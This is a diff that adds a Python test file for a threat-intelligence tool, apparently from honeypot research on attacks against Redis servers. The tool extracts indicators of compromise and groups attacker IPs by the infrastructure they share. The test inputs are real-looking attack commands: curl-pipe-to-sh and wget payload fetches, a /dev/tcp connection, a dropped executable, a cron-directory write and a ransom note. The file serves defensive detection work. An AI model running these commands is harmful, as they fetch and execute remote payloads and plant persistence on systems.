@@ -1,0 +1,98 @@
+"""Tests for IOC extraction and infrastructure pivoting."""
+
+from repro.core.iocs import (IocSet, extract_iocs, pivot_infrastructure,
+                             profile_iocs)
+from repro.core.loading import IpProfile
+
+
+class TestExtraction:
+    def test_loader_urls(self):
+        iocs = extract_iocs(["curl -fsSL http://103.97.132.19:8080/ff.sh"
+                             " | sh"])
+        assert iocs.loader_endpoints == {"103.97.132.19:8080"}
+        assert iocs.urls == {"http://103.97.132.19:8080/ff.sh"}
+
+    def test_url_without_port(self):
+        iocs = extract_iocs(["wget http://45.15.158.124/pg.sh"])
+        assert iocs.loader_endpoints == {"45.15.158.124"}
+
+    def test_dev_tcp_endpoints(self):
+        iocs = extract_iocs(
+            ["exec 6<>/dev/tcp/194.38.20.199/60101 && echo"])
+        assert iocs.loader_endpoints == {"194.38.20.199:60101"}
+
+    def test_btc_addresses_and_amounts(self):
+        note = ("You must pay 0.0058 BTC to "
+                "bc1qexampleransomaddressgroup1 in 48 hours")
+        iocs = extract_iocs([note])
+        assert "bc1qexampleransomaddressgroup1" in iocs.btc_addresses
+        assert iocs.btc_amounts == {"0.0058"}
+
+    def test_emails(self):
+        iocs = extract_iocs(["send mail to recover@onionmail.example"])
+        assert iocs.emails == {"recover@onionmail.example"}
+
+    def test_ssh_keys(self):
+        iocs = extract_iocs(
+            ["\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQCexample "
+             "root@localhost\n"])
+        assert len(iocs.ssh_keys) == 1
+
+    def test_dropped_files(self):
+        iocs = extract_iocs(["cat 0<&6 > /tmp/0e1a6e1a; chmod +x "
+                             "/tmp/0e1a6e1a", "config set dir "
+                             "/var/spool/cron"])
+        assert "/tmp/0e1a6e1a" in iocs.dropped_files
+        assert any(path.startswith("/var/spool/cron")
+                   for path in iocs.dropped_files)
+
+    def test_clean_text_yields_empty(self):
+        iocs = extract_iocs(["SELECT version();", "INFO server"])
+        assert not iocs
+
+    def test_merge(self):
+        a = extract_iocs(["http://1.2.3.4/x"])
+        b = extract_iocs(["pay 1.0 BTC to "
+                          "bc1qaaaaaaaaaaaaaaaaaaaaaaaaaa"])
+        merged = a.merge(b)
+        assert merged.loader_endpoints and merged.btc_addresses
+
+
+class TestProfilesAndPivot:
+    def make_profile(self, ip, raws):
+        profile = IpProfile(src_ip=ip, dbms="redis")
+        profile.raws = list(raws)
+        return profile
+
+    def test_profile_iocs(self):
+        profile = self.make_profile(
+            "1.1.1.1", ["GET http://9.9.9.9:81/linux"])
+        assert profile_iocs(profile).loader_endpoints == {"9.9.9.9:81"}
+
+    def test_pivot_groups_shared_infrastructure(self):
+        profiles = {
+            ("a", "redis"): self.make_profile(
+                "a", ["curl http://9.9.9.9:81/linux"]),
+            ("b", "redis"): self.make_profile(
+                "b", ["wget http://9.9.9.9:81/linux"]),
+            ("c", "redis"): self.make_profile(
+                "c", ["curl http://8.8.8.8:80/other"]),
+            ("d", "redis"): self.make_profile("d", ["INFO"]),
+        }
+        pivot = pivot_infrastructure(profiles)
+        shared = pivot.shared_endpoints(minimum=2)
+        assert shared == {"9.9.9.9:81": {"a", "b"}}
+
+    def test_pivot_on_experiment_groups_campaigns(self,
+                                                  small_experiment):
+        from repro.core.loading import load_ip_profiles
+
+        profiles = load_ip_profiles(small_experiment.midhigh_db)
+        pivot = pivot_infrastructure(profiles)
+        shared = pivot.shared_endpoints(minimum=5)
+        # The P2PInfect loader and the Kinsing host are each shared by
+        # their whole campaign.
+        assert any(len(ips) >= 30 for ips in shared.values())
+        campaign_sizes = sorted((len(ips) for ips in shared.values()),
+                                reverse=True)
+        assert campaign_sizes[0] >= 100  # Kinsing (196 IPs)
